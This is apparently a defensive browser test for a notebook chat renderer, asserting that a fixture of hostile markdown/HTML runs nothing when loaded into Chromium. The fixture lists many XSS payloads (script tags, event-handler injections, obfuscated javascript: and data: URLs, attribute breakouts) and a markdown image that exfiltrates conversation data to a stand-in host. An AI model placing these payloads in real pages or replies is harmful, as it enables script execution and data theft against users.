"""Hostile replies, rendered as nbchat ships them, loaded into real Chromium: nothing runs.

The HTML is the ``text/html`` of the cell's final output. The page counts as compromised if
``window.pwned`` gets set, ``alert`` is called, an element carries an event-handler attribute, a
link points anywhere but http(s)/mailto, or the page makes any network request by itself
(an image loading is how a reply would smuggle data out).
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest
from test_render import load_cases

from nbchat.display import final_bundle
from nbchat.render import render_markdown
from nbchat.reply import Reply

from browser import chromium

HOSTILE = """\
# Totally normal answer

<script>window.pwned = "script"</script>

<img src=x onerror="window.pwned = 'img onerror'">

<svg onload="window.pwned = 'svg'"></svg>

<iframe src="javascript:parent.pwned = 'iframe'"></iframe>

<a href="javascript:window.pwned = 'raw link'">raw link</a>

<details open ontoggle="window.pwned = 'details'"><summary>x</summary></details>

[plain js](javascript:window.pwned='js link')
[mixed case](JaVaScRiPt:window.pwned='mixed')
[entity tab](java&#x09;script:window.pwned='entity')
[percent](%6Aavascript:window.pwned='percent')
[data html](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==)
[vb](vbscript:msgbox(1))
[quote title](https://example.com "a\\" onmouseover=\\"window.pwned='title'")

![exfiltrate](https://evil.example/collect?secret=conversation "x\\" onerror=\\"window.pwned='alt'")

```"><script>window.pwned='fence'</script>
print("hi")
```

<style>body { display: none }</style>
<form action="javascript:window.pwned='form'"><button>go</button></form>
<meta http-equiv="refresh" content="0; url=javascript:window.pwned='meta'">

Some `<b>inline code</b>` and $x_1 < y$ math.
"""

POKE_PAGE = """() => {
  for (const el of document.body.querySelectorAll('*')) {
    for (const type of ['mouseover', 'mouseenter', 'focus', 'toggle', 'animationstart']) {
      el.dispatchEvent(new Event(type, {bubbles: true}));
    }
  }
}"""

CHECK_PAGE = """() => {
  const found = [];
  for (const el of document.body.querySelectorAll('*')) {
    for (const attr of el.attributes) {
      if (/^on/i.test(attr.name)) found.push(el.tagName + ' ' + attr.name);
    }
  }
  for (const a of document.querySelectorAll('a[href]')) {
    if (!['http:', 'https:', 'mailto:'].includes(new URL(a.href, 'https://x/').protocol)) {
      found.push('href ' + a.getAttribute('href'));
    }
  }
  const banned = 'script,iframe,img,svg,style,form,meta,object,embed,base,link';
  for (const el of document.body.querySelectorAll(banned)) found.push('element ' + el.tagName);
  return {found, pwned: window.pwned === undefined ? null : String(window.pwned)};
}"""


@pytest.fixture(scope="module")
def page(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    with chromium(tmp_path_factory.mktemp("chromium")) as context:
        page = context.new_page()
        page.add_init_script("window.alert = (m) => { window.pwned = 'alert ' + m; };")
        page.requests = []  # type: ignore[attr-defined]
        page.on("request", lambda request: page.requests.append(request.url))
        yield page


def load(page: Any, html: str) -> dict[str, Any]:
    """Show ``html`` as a notebook output would, poke at it, and report what happened."""
    page.requests.clear()
    page.set_content(f"<!doctype html><meta charset=utf-8><body>{html}</body>")
    page.evaluate(POKE_PAGE)  # mouse and focus handlers, had any survived
    page.wait_for_timeout(50)  # let error events of anything that tried to load fire
    report: dict[str, Any] = page.evaluate(CHECK_PAGE)
    report["requests"] = [url for url in page.requests if not url.startswith("about:")]
    return report


def finished_html(markdown: str) -> str:
    data, _ = final_bundle(Reply.finished("q", markdown, model="m"))
    return str(data["text/html"])


def test_a_hostile_reply_runs_nothing_and_shows_its_text(page: Any) -> None:
    report = load(page, finished_html(HOSTILE))
    assert report == {"found": [], "pwned": None, "requests": []}
    text = page.inner_text("body")
    assert '<script>window.pwned = "script"</script>' in text
    assert "<img src=x onerror=" in text
    assert "🖼 exfiltrate" in text
    hrefs = page.eval_on_selector_all("a[href]", "els => els.map(e => e.href)")
    assert hrefs == ["https://example.com/", "https://evil.example/collect?secret=conversation"]


@pytest.mark.parametrize(
    ("name", "markdown"), [(c[0], c[1]) for c in load_cases()], ids=[c[0] for c in load_cases()]
)
def test_every_rendering_fixture_is_inert_in_a_browser(page: Any, name: str, markdown: str) -> None:
    report = load(page, render_markdown(markdown))
    assert report == {"found": [], "pwned": None, "requests": []}


def test_browser_helper_detects_a_live_script(page: Any) -> None:
    """The check itself can fail: unescaped HTML is caught."""
    report = load(page, '<img src="x" onerror="window.pwned = 1">')
    assert report["pwned"] == "1"
    assert "IMG onerror" in report["found"]
